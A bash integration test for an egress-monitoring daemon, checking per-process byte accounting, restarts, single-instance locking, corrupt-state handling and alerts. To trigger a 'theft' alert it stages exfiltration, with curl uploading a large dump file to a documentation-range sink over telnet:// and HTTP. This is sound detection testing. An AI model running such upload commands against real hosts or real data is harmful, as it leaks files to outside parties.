#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The daemon as its user meets it: exact bytes by owner, restarts, one instance, bad
# input, and a theft that becomes an alert. Needs root.
# shellcheck disable=SC2119,SC2120
set -u
cd "$(dirname "$0")/../.." || exit 1
. tests/lib/system.sh

if [ "$(id -u)" != 0 ]; then
	skip daemon "needs root"
	exit 0
fi
make_world || { not_ok world "network namespaces"; finish; }

cat >"$tmp/sink.py" <<'P'
# Takes everything on 203.0.113.7 and 2001:db8:1::2, TCP and UDP 9000.
import socket, threading
def drain(c):
    while c.recv(1 << 16):
        pass
def serve(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 9000)); s.listen(16)
    while True:
        c, _ = s.accept()
        threading.Thread(target=drain, args=(c,), daemon=True).start()
for f, a in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "2001:db8:1::2")):
    threading.Thread(target=serve, args=(f, a), daemon=True).start()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("0.0.0.0", 9000))
print("ready", flush=True)
while True:
    u.recv(65536)
P
cat >"$tmp/send.py" <<'P'
# Sends exact numbers of bytes by each way, waits until the peer has them, says who it was.
import os, socket, sys, time
def settle(s):
    import fcntl, struct, termios
    while struct.unpack("i", fcntl.ioctl(s, 0x5411, b"\0" * 4))[0]:  # SIOCOUTQ
        time.sleep(0.01)
t = socket.create_connection(("203.0.113.7", 9000)); t.sendall(b"x" * 1234567); settle(t)
t6 = socket.create_connection(("2001:db8:1::2", 9000)); t6.sendall(b"x" * 7654321); settle(t6)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(37):
    u.sendto(b"y" * 1111, ("203.0.113.7", 9000))
a, b = socket.socketpair(); a.sendall(b"z" * 4321); b.recv(8192)
print(os.getpid(), flush=True)
sys.stdin.read()
P
in_out python3 "$tmp/sink.py" >"$tmp/sink.out" & pids+=($!)
wait_for 10 grep -q ready "$tmp/sink.out"

if ! start_sensor; then
	not_ok starts "$(tail -5 "$tmp/log")"
	finish
fi
ok starts
expect_match says-what-it-counts "$(cat "$tmp/log")" 'counting: egress: '
expect status-exit-code "$(ctl status >/dev/null; echo $?)" 0

# --- exact bytes of one process ---------------------------------------------
mkfifo "$tmp/hold"
in_db python3 "$tmp/send.py" <"$tmp/hold" >"$tmp/who" & pids+=($!)
exec 7>"$tmp/hold"
wait_for 20 test -s "$tmp/who"
who=$(cat "$tmp/who")
sleep 2.5
ctl flows --json --all >"$tmp/flows"
sum() { json "$tmp/flows" "sum(r['egress.payload_bytes'] for r in rows if r.get('process.pid') == $who and $1)"; }
expect tcp4-exact "$(sum "r['network.transport'] == 'tcp' and r['destination.ip'] == '203.0.113.7'")" 1234567
expect tcp6-exact "$(sum "r['network.transport'] == 'tcp' and r['destination.ip'] == '2001:db8:1::2'")" 7654321
expect udp-exact "$(sum "r['network.transport'] == 'udp'")" $((37 * 1111))
expect unix-is-an-edge "$(sum "r['egress.scope'] == 'host-local'")" 4321
expect scope-and-initiation "$(json "$tmp/flows" "sorted({(r['egress.initiation'], r['egress.scope'], r['service.port']) for r in rows if r.get('process.pid') == $who and r.get('network.transport') == 'tcp'})")" \
	"[('connected', 'public', 9000)]"
expect named "$(json "$tmp/flows" "{r['process.name'] for r in rows if r.get('process.pid') == $who} <= {'python3', 'python3.11'}")" True
exec 7>&-

# --- the invariant, read from outside ----------------------------------------
expect invariant "$(ctl status --json | json - "rows[0]['invariant_ok'] and rows[0]['ticks.invariant_broken'] == 0")" True

# --- accepted connections are billed to who answers ---------------------------
cat >"$tmp/answer.py" <<'P'
import os, socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("192.0.2.1", 5999)); s.listen(1); print(os.getpid(), flush=True)
c, _ = s.accept(); c.sendall(b"row" * 500000); c.shutdown(1); c.recv(1)
import time; time.sleep(30)
P
in_db python3 "$tmp/answer.py" >"$tmp/answerer" & pids+=($!)
wait_for 10 test -s "$tmp/answerer"
in_out python3 -c '
import socket
s = socket.create_connection(("192.0.2.1", 5999)); n = 0
while True:
    d = s.recv(1 << 16)
    if not d: break
    n += len(d)
print(n)' >"$tmp/received"
sleep 2.5
ctl flows --json --all >"$tmp/flows"
expect accepted-exact "$(json "$tmp/flows" "[(r['egress.payload_bytes'], r['egress.initiation'], r['service.port']) for r in rows if r.get('process.pid') == $(cat "$tmp/answerer") and r['destination.ip'] == '192.0.2.2']")" \
	"[($(cat "$tmp/received"), 'accepted', 5999)]"

# --- one instance a state directory ------------------------------------------
"$BUILD/egressd" --state-dir "$tmp/state" --socket "$tmp/sock2" >"$tmp/second" 2>&1
expect second-instance-refused "$?" 1
expect_match second-instance-says-why "$(cat "$tmp/second")" 'another egressd uses it'

# --- foreign bytes do not hurt ------------------------------------------------
head -c 100000 /dev/urandom | timeout 5 socat -u - "UNIX-CONNECT:$tmp/sock" 2>/dev/null
expect survives-foreign-bytes "$(ctl status >/dev/null; echo $?)" 0

# --- what happens is told while it happens ---------------------------------------
timeout 60 "$BUILD/egressctl" --socket "$tmp/sock" alerts --json --follow >"$tmp/follow" 2>&1 &
pids+=($!)
ctl record -o "$tmp/trace.jsonl" --for 12s >/dev/null 2>&1 & recorder=$!
pids+=("$recorder")

# --- a theft becomes an alert -------------------------------------------------
head -c 120000000 /dev/zero >"$tmp/dump"
in_db curl -sS -m 30 -T "$tmp/dump" telnet://203.0.113.7:9000 </dev/null >/dev/null 2>&1 & pids+=($!)
in_db bash -c "exec curl -sS -m 20 --data-binary @$tmp/dump http://203.0.113.7:9000/" >/dev/null 2>&1 & curl=$!
pids+=("$curl")
wait_for 15 bash -c "'$BUILD/egressctl' --socket '$tmp/sock' alerts --json | grep curl | grep -q '\"page\"'"
ctl alerts --json >"$tmp/alerts"
expect_match theft-is-reported "$(cat "$tmp/alerts")" '"level":"page"'
expect_match theft-names-the-tool "$(json "$tmp/alerts" "' '.join(r['subject'] for r in rows)")" 'curl.*203\.0\.113'
expect_match alert-was-logged "$(cat "$tmp/log")" 'ALERT .* page open'
id=$(json "$tmp/alerts" "[r for r in rows if 'curl' in r['subject']][0]['alert.id']")
expect show-finds-it "$(ctl show "${id:0:8}" --json | json - "rows[0]['alert.id']")" "$id"
expect ack-works "$(ctl ack "$id" >/dev/null; echo $?)" 0
kill "$curl" 2>/dev/null
wait_for 5 grep -q '"level":"page"' "$tmp/follow"
expect_match followers-hear-of-it "$(cat "$tmp/follow")" '"level":"page"'
wait "$recorder" 2>/dev/null
expect_match trace-begins-with-its-header "$(head -1 "$tmp/trace.jsonl")" '"trace":"egress"'
expect trace-has-the-theft "$(json "$tmp/trace.jsonl" "sum(r['tx'] for r in rows[1:] if 'curl' in r.get('exe', '')) > 16000000")" True
"$BUILD/egressctl" replay "$tmp/trace.jsonl" --json >"$tmp/replayed"
expect replay-judges-alike "$(json "$tmp/replayed" "any('curl' in r.get('subject', '') and r['level'] == 'page' for r in rows)")" True

# --- kill -9: counting goes on, the next daemon adopts it -----------------------
before=$(ctl status --json | json - "rows[0]['total.payload_bytes']")
stop_sensor KILL
in_db python3 -c '
import socket, time
t = socket.create_connection(("203.0.113.7", 9000)); t.sendall(b"q" * 2000000); t.shutdown(1); time.sleep(1)'
start_sensor
status=$(ctl status --json)
expect adopted "$(json - "rows[0]['egressd.adopted']" <<<"$status")" True
expect nothing-lost-while-dead "$(json - "rows[0]['total.payload_bytes'] >= $before + 2000000" <<<"$status")" True
expect invariant-after-adoption "$(json - "rows[0]['invariant_ok']" <<<"$status")" True
expect_match alerts-survive "$(ctl alerts --json)" "$id"

# --- SIGTERM keeps the pins, a damaged baseline is set aside ---------------------
stop_sensor TERM
printf 'garbage' | dd of="$tmp/state/baseline.state" bs=1 conv=notrunc 2>/dev/null
truncate -s 5000 "$tmp/state/baseline.state"
start_sensor
expect set-aside "$(find "$tmp/state" -name 'baseline.state.corrupt-*' | wc -l)" 1
expect_match set-aside-is-said "$(ctl status --json)" 'set aside.*starting afresh'
ctl baseline reset >/dev/null # writes a state down at once
stop_sensor TERM
truncate -s "$(($(stat -c %s "$tmp/state/baseline.state") / 2))" "$tmp/state/baseline.state"
start_sensor
expect_match kept-half-is-said "$(ctl status --json)" 'set aside.*its last whole state is in use'
stop_sensor TERM
rm -f "$tmp/state/baseline.state"
"$BUILD/tests/probe/write_slot" "$tmp/state/baseline.state" 'checksummed, but no state of ours'
start_sensor
expect foreign-state-set-aside "$(grep -l 'no state of ours' "$tmp"/state/baseline.state.corrupt-* | wc -l)" 1
expect learns-on-afresh "$(ctl status >/dev/null; echo $?)" 0

# --- detach ends it ---------------------------------------------------------------
ctl detach >/dev/null
expect detach-exit-code "$?" 0
wait "$sensor" 2>/dev/null
expect_match detached-for-good "$("$BUILD/egressd" --detach --state-dir "$tmp/state")" 'nothing is pinned'

# --- bad input -----------------------------------------------------------------------
printf 'daemon:\n  intervall: 1s\n' >"$tmp/bad.yaml"
"$BUILD/egressd" -c "$tmp/bad.yaml" --check 2>"$tmp/err"
expect bad-config-status "$?" 2
expect_match bad-config-names-the-place "$(cat "$tmp/err")" 'bad.yaml:2: '
ctl status >/dev/null 2>&1
expect no-daemon-status "$?" 3
cp "$BUILD/egressd" "$tmp/egressd" && chmod 755 "$tmp" "$tmp/egressd"
setpriv --reuid 65534 --regid 65534 --clear-groups "$tmp/egressd" --state-dir "$tmp/nobody" 2>"$tmp/err"
expect unprivileged-status "$?" 4
expect_match unprivileged-says-what-it-needs "$(cat "$tmp/err")" 'CAP_BPF'
finish
